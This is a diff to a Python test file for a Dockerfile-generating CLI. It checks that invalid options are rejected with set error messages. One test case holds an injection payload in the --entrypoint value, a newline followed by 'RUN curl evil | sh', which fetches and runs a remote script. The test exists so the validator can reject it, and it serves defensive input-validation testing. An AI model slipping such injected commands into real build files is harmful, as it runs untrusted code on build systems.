@@ -111,7 +111,10 @@ def test_existing_files_are_not_overwritten_without_force(
         (["--cpus", "0"], "--cpus: must be a positive number"),
         (["--port", "80"], "--port: must be a whole number from 1024 to 65535"),
         (["--app-name", "Bad Name"], "--app-name: must be 1-63 lowercase letters"),
-        (["--entrypoint", 'app:app"]\nRUN curl evil | sh'], "--entrypoint: must be module:attr"),
+        (
+            ["--entrypoint", 'app:app"]\nRUN curl evil | sh'],
+            "--entrypoint: must not contain control characters",
+        ),
         (["--package-manager", "conda"], "--package-manager: must be one of pip, poetry, uv"),
         (["--runtime-base", "distroless", "--python-version", "3.12"], "--python-version: must be 3.11"),
         (["--ci", "gitlab"], "--ci: must be one of none, github"),
